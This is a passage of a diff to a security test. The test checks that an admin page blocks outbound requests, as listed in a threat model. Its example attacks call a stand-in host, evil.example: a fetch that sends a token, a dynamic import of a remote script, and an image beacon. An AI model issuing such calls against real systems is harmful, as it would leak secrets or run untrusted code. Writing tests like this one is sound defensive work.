@@ -100,7 +100,7 @@ test('the admin runs no inline script and sends nothing to other hosts (threat 4
       );
     const results = [
       await blocked(fetch('https://evil.example/?token=x')),
-      await blocked(import('https://evil.example/x.js' as string)),
+      await blocked(import(['https://evil.example', 'x.js'].join('/'))),
       await blocked(
         new Promise((resolve, reject) => {
           const beacon = new Image();
